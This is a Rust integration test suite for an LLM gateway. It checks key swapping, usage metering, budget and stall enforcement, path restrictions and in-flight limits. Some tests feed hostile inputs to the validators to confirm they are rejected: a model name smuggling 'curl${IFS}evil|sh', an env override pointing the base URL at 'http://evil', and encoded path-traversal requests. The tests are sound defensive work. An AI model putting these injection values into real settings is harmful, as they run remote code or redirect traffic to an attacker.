//! The model gateway against a stand-in provider: the box's token in, the real key out, every
//! answer streamed through unbuffered and metered, budgets and the stall guard enforced.

use std::sync::Arc;
use std::time::Duration;

use apiary_testkit::model_standin::{ModelStandin, Reported, Step};
use apiary_testkit::{Client, TestApp};
use serde_json::{json, Value};

use crate::agent_loop::{provisioned_task, ControlPlane};

const ANTHROPIC_KEY: &str = "sk-ant-real-provider-key-0001";
const OPENAI_KEY: &str = "sk-openai-real-provider-key-0002";
const GEMINI_KEY: &str = "gemini-real-provider-key-0003";

/// A stand-in that always answers "done", and an app whose gateway points every provider at it.
async fn setup(per_answer: Reported, gateway: Value) -> (TestApp, Client, ModelStandin) {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let standin =
        ModelStandin::start(Arc::new(|_, _, _| Step::Text("done".into())), per_answer).await;
    let mut g = json!({
        "base_urls": {"anthropic": standin.base, "openai": standin.base, "gemini": standin.base},
        "keys": {"anthropic": ANTHROPIC_KEY, "openai": OPENAI_KEY, "gemini": GEMINI_KEY},
    });
    for (k, v) in gateway.as_object().unwrap() {
        g[k] = v.clone();
    }
    let (status, body) = admin
        .patch("/api/v1/settings", json!({ "gateway": g }))
        .await;
    assert_eq!(status, 200, "{body}");
    (app, admin, standin)
}

/// A provisioned task reporting `speccing`, and its box's gateway token.
async fn working_task(app: &TestApp, admin: &Client) -> (String, String) {
    let cp = ControlPlane::default();
    let cp_url = cp.start().await;
    let (_, tid, tokens) = provisioned_task(app, admin, &cp_url).await;
    let bx = Client::with_bearer(&app.base, &tokens.callback_token);
    let (status, _) = bx
        .post(
            &format!("/api/v1/agent/tasks/{tid}/status"),
            json!({ "status": "speccing" }),
        )
        .await;
    assert_eq!(status, 200);
    (tid, tokens.gateway_token)
}

fn http() -> reqwest::Client {
    reqwest::Client::new()
}

/// Waits until the task's recorded usage has `n` requests (recording follows the answer).
async fn usage_after(admin: &Client, tid: &str, n: i64) -> Value {
    for _ in 0..100 {
        let (status, body) = admin.get(&format!("/api/v1/tasks/{tid}/agent/usage")).await;
        assert_eq!(status, 200, "{body}");
        if body["total"]["requests"].as_i64() >= Some(n) {
            return body;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("usage of {n} requests never recorded");
}

#[tokio::test]
async fn the_gateway_swaps_in_the_key_and_meters_what_each_provider_reports() {
    let per = Reported {
        input: 1000,
        output: 200,
        cache_read: 300,
        cache_write: 50,
    };
    let (app, admin, standin) = setup(per, json!({})).await;
    let (tid, token) = working_task(&app, &admin).await;
    let gw = format!("{}/gateway", app.base);
    // Anthropic, not streamed, with the token as x-api-key.
    let r = http()
        .post(format!("{gw}/anthropic/v1/messages"))
        .header("x-api-key", &token)
        .header("anthropic-version", "2023-06-01")
        .json(&json!({"model": "claude-sonnet-4-5", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["content"][0]["text"], "done");
    // OpenAI Chat Completions, streamed, without asking for usage: the gateway asks.
    let r = http()
        .post(format!("{gw}/openai/v1/chat/completions"))
        .bearer_auth(&token)
        .json(&json!({"model": "gpt-5", "stream": true, "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let text = r.text().await.unwrap();
    assert!(
        text.contains("\"usage\"") && text.ends_with("data: [DONE]\n\n"),
        "{text}"
    );
    // OpenAI Responses, streamed.
    let r = http()
        .post(format!("{gw}/openai/v1/responses"))
        .bearer_auth(&token)
        .json(&json!({"model": "gpt-5-codex", "stream": true, "input": "hi"}))
        .send()
        .await
        .unwrap();
    assert!(r.text().await.unwrap().contains("response.completed"));
    // Gemini, streamed, with the token in the query as its CLI may send it.
    let r = http()
        .post(format!(
            "{gw}/gemini/v1beta/models/gemini-2.5-pro:streamGenerateContent?alt=sse&key={token}"
        ))
        .json(&json!({"contents": [{"role": "user", "parts": [{"text": "hi"}]}]}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    r.text().await.unwrap();

    let seen = standin.requests();
    assert_eq!(seen.len(), 4);
    let header = |i: usize, name: &str| {
        seen[i]
            .headers
            .get(name)
            .map(|v| v.to_str().unwrap().to_string())
    };
    assert_eq!(header(0, "x-api-key").as_deref(), Some(ANTHROPIC_KEY));
    assert_eq!(
        header(0, "anthropic-version").as_deref(),
        Some("2023-06-01")
    );
    assert_eq!(
        header(1, "authorization"),
        Some(format!("Bearer {OPENAI_KEY}"))
    );
    assert_eq!(seen[1].body["stream_options"]["include_usage"], true);
    assert_eq!(header(3, "x-goog-api-key").as_deref(), Some(GEMINI_KEY));
    for r in &seen {
        let all = format!("{:?} {} {}", r.headers, r.body, r.path);
        assert!(
            !all.contains(&token),
            "the box's token reached the provider: {all}"
        );
    }

    // Every token the stand-in reported, once, priced by the table.
    let usage = usage_after(&admin, &tid, 4).await;
    let total = &usage["total"];
    let want = standin.reported();
    assert_eq!(total["input_tokens"], want.input, "{usage}");
    assert_eq!(total["output_tokens"], want.output);
    assert_eq!(total["cache_read_tokens"], want.cache_read);
    // Anthropic and the Responses API report cache writes; Chat Completions and Gemini do not.
    assert_eq!(total["cache_write_tokens"], 2 * per.cache_write);
    assert!(total["cost_usd"].as_f64().unwrap() > 0.0);
    assert!(usage["groups"]
        .as_array()
        .unwrap()
        .iter()
        .all(|g| g["phase"] == "speccing" && g["round"] == 0));
    let pid = app.store.get_task(&tid).await.unwrap().project_id;
    let (_, month) = admin.get(&format!("/api/v1/projects/{pid}/usage")).await;
    assert_eq!(month["total"]["requests"], 4);
    let metrics = reqwest::get(format!("{}/metrics", app.base))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        metrics.contains("apiary_model_tokens_total{project=")
            && metrics.contains("model=\"gpt-5\""),
        "{metrics}"
    );
    // The keys never come back.
    let (_, settings) = admin.get("/api/v1/settings").await;
    assert_eq!(
        settings["gateway"]["keys"]["anthropic"],
        json!({"set": true})
    );
    assert!(!settings.to_string().contains(ANTHROPIC_KEY));
}

#[tokio::test]
async fn a_streamed_answer_reaches_the_cli_before_the_provider_has_finished() {
    let (app, admin, standin) = setup(Reported::default(), json!({})).await;
    let (_, token) = working_task(&app, &admin).await;
    let release = Arc::new(tokio::sync::Notify::new());
    *standin.hold.lock().unwrap() = Some(release.clone());
    let mut r = http()
        .post(format!("{}/gateway/anthropic/v1/messages", app.base))
        .header("x-api-key", &token)
        .json(
            &json!({"model": "claude-sonnet-4-5", "max_tokens": 10, "stream": true,
            "messages": [{"role": "user", "content": "hi"}]}),
        )
        .send()
        .await
        .unwrap();
    // The stand-in holds everything after its first event until released.
    let first = tokio::time::timeout(Duration::from_secs(5), r.chunk())
        .await
        .expect("the first event came through before the rest was sent")
        .unwrap()
        .unwrap();
    assert!(String::from_utf8_lossy(&first).contains("message_start"));
    release.notify_one();
    let mut rest = Vec::new();
    while let Some(c) = r.chunk().await.unwrap() {
        rest.extend_from_slice(&c);
    }
    assert!(String::from_utf8_lossy(&rest).contains("message_stop"));
}

#[tokio::test]
async fn tokens_that_are_unknown_torn_down_or_of_a_stopped_task_get_nothing() {
    let (app, admin, standin) = setup(Reported::default(), json!({})).await;
    let (tid, token) = working_task(&app, &admin).await;
    let post = |token: Option<String>| {
        let mut req = http()
            .post(format!("{}/gateway/anthropic/v1/messages", app.base))
            .json(&json!({"model": "m", "messages": []}));
        if let Some(t) = token {
            req = req.header("x-api-key", t);
        }
        req.send()
    };
    let r = post(None).await.unwrap();
    assert_eq!(r.status(), 401);
    let body: Value = r.json().await.unwrap();
    assert_eq!(
        body["type"], "error",
        "the provider's own error shape: {body}"
    );
    assert_eq!(
        post(Some("apiary_gw_forged".into()))
            .await
            .unwrap()
            .status(),
        401
    );
    // Another task's box holds another token; the callback token is not a gateway token.
    let (other, other_token) = working_task(&app, &admin).await;
    assert_eq!(post(Some(token.clone())).await.unwrap().status(), 200);
    // A failed task's box is kept for the grace period, but its agent may not call models.
    app.orch
        .transition(
            apiary_store::TransitionRequest::new(
                &other,
                apiary_core::AgentStatus::Failed,
                apiary_store::Actor::System,
            )
            .with_error("test"),
        )
        .await
        .unwrap();
    assert!(!app.store.get_task(&other).await.unwrap().box_torn_down);
    let r = post(Some(other_token)).await.unwrap();
    assert_eq!(r.status(), 403);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("failed"),
        "{body}"
    );
    // Only model requests pass: no files, batches or escapes, whatever the method.
    for (method, path) in [
        (
            reqwest::Method::GET,
            "/gateway/openai/v1/files/file-1/content",
        ),
        (reqwest::Method::POST, "/gateway/openai/v1/batches"),
        (
            reqwest::Method::POST,
            "/gateway/openai/v1/chat/completions%3Fx=1",
        ),
        (
            reqwest::Method::POST,
            "/gateway/anthropic/v1/messages/batches",
        ),
        (
            reqwest::Method::POST,
            "/gateway/anthropic/v1/..%2Fv1%2Ffiles",
        ),
    ] {
        let r = http()
            .request(method.clone(), format!("{}{path}", app.base))
            .header("x-api-key", &token)
            .bearer_auth(&token)
            .json(&json!({"model": "m", "stream": true}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403, "{method} {path}");
    }
    // The callback token opens nothing here.
    let (_, _, callback_tokens) =
        provisioned_task(&app, &admin, &ControlPlane::default().start().await).await;
    assert_eq!(
        post(Some(callback_tokens.callback_token))
            .await
            .unwrap()
            .status(),
        401
    );
    // Torn down: the token is dead.
    app.store.detach_box(&tid, false).await.unwrap();
    assert_eq!(post(Some(token)).await.unwrap().status(), 401);
    assert_eq!(standin.answers(), 1, "nothing refused reached the provider");
}

#[tokio::test]
async fn a_task_over_its_budget_fails_and_nothing_past_it_is_forwarded() {
    // 10,000 input tokens of a $3/Mtok model: $0.03 an answer, over a budget of $0.01.
    let per = Reported {
        input: 10_000,
        ..Reported::default()
    };
    let (app, admin, standin) = setup(per, json!({"task_budget_usd": 0.01})).await;
    let (tid, token) = working_task(&app, &admin).await;
    let send = || {
        http()
            .post(format!("{}/gateway/anthropic/v1/messages", app.base))
            .header("x-api-key", &token)
            .json(&json!({"model": "claude-sonnet-4-5", "messages": [{"role": "user", "content": "hi"}]}))
            .send()
    };
    assert_eq!(send().await.unwrap().status(), 200);
    usage_after(&admin, &tid, 1).await;
    // The answer that crossed the budget stops the task.
    let mut task = app.store.get_task(&tid).await.unwrap();
    for _ in 0..100 {
        if task.agent_status == apiary_core::AgentStatus::Failed {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        task = app.store.get_task(&tid).await.unwrap();
    }
    assert_eq!(task.agent_status, apiary_core::AgentStatus::Failed);
    assert_eq!(
        task.last_error.as_deref(),
        Some("budget of $0.01 reached ($0.03 spent)")
    );
    let r = send().await.unwrap();
    assert_eq!(r.status(), 403);
    assert_eq!(
        standin.answers(),
        1,
        "nothing past the budget was forwarded"
    );
    // A project's own budget wins over the global one; only admins set it.
    let pid = task.project_id.clone();
    let (status, body) = admin
        .patch(
            &format!("/api/v1/projects/{pid}/gateway"),
            json!({"task_budget_usd": 1.0, "model": "claude-haiku-4-5", "agent_env": {"NODE_OPTIONS": "--x"}}),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["effective_model"], "claude-haiku-4-5");
    let (_, usage) = admin.get(&format!("/api/v1/tasks/{tid}/agent/usage")).await;
    assert_eq!(usage["budget_usd"], 1.0);
    let (member, user) = app.member("m@example.test").await;
    let (status, body) = admin
        .patch(
            &format!("/api/v1/projects/{pid}/gateway"),
            json!({"model": "gpt-5;curl${IFS}evil|sh"}),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["field"], "agent.gateway.model");
    let (status, _) = admin
        .put(
            &format!("/api/v1/projects/{pid}/members/{}", user.id),
            json!({"access": "write"}),
        )
        .await;
    assert_eq!(status, 204);
    let (status, body) = member
        .patch(
            &format!("/api/v1/projects/{pid}/gateway"),
            json!({"task_budget_usd": 1000.0}),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(body["error"]["field"], "agent.gateway.task_budget_usd");
    let (status, body) = member
        .patch(
            &format!("/api/v1/projects/{pid}/gateway"),
            json!({"agent_env": {"ANTHROPIC_BASE_URL": "http://evil"}}),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["error"]["field"], "agent.gateway.agent_env");
}

#[tokio::test]
async fn an_agent_repeating_one_request_is_stopped_as_stalled() {
    let (app, admin, standin) = setup(Reported::default(), json!({"stall_repeats": 5})).await;
    let (tid, token) = working_task(&app, &admin).await;
    let send = || {
        http()
            .post(format!("{}/gateway/openai/v1/chat/completions", app.base))
            .bearer_auth(&token)
            .json(&json!({"model": "gpt-5", "messages": [{"role": "user", "content": "same"}]}))
            .send()
    };
    for i in 1..=4 {
        assert_eq!(send().await.unwrap().status(), 200, "request {i}");
        usage_after(&admin, &tid, i).await;
    }
    let r = send().await.unwrap();
    assert_eq!(r.status(), 403);
    let body: Value = r.json().await.unwrap();
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("stalled"),
        "{body}"
    );
    assert_eq!(standin.answers(), 4);
    let task = app.store.get_task(&tid).await.unwrap();
    assert_eq!(task.agent_status, apiary_core::AgentStatus::Failed);
    assert_eq!(
        task.last_error.as_deref(),
        Some("agent stalled: the same model request 5 times in a row")
    );
}

#[tokio::test]
async fn a_task_has_at_most_sixteen_model_requests_in_flight() {
    let (app, admin, standin) = setup(Reported::default(), json!({})).await;
    let (_, token) = working_task(&app, &admin).await;
    let release = Arc::new(tokio::sync::Notify::new());
    *standin.hold.lock().unwrap() = Some(release.clone());
    let send = |i: usize| {
        http()
            .post(format!("{}/gateway/anthropic/v1/messages", app.base))
            .header("x-api-key", &token)
            .json(
                &json!({"model": "claude-sonnet-4-5", "max_tokens": 10, "stream": true,
                "messages": [{"role": "user", "content": format!("request {i}")}]}),
            )
            .send()
    };
    // Sixteen answers start and wait for the stand-in; each holds a slot.
    let mut open = Vec::new();
    for i in 0..apiary_server::routes::gateway::MAX_IN_FLIGHT {
        let mut r = send(i).await.unwrap();
        assert_eq!(r.status(), 200);
        r.chunk().await.unwrap();
        open.push(r);
    }
    let r = send(99).await.unwrap();
    assert_eq!(r.status(), 429);
    // An answer that ends gives its slot back.
    *standin.hold.lock().unwrap() = None;
    // Every held answer waits on the notice; one not yet waiting gets a later one.
    let nudger = {
        let release = release.clone();
        tokio::spawn(async move {
            loop {
                release.notify_waiters();
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        })
    };
    for mut r in open {
        while r.chunk().await.unwrap().is_some() {}
    }
    nudger.abort();
    assert_eq!(send(100).await.unwrap().status(), 200);
}
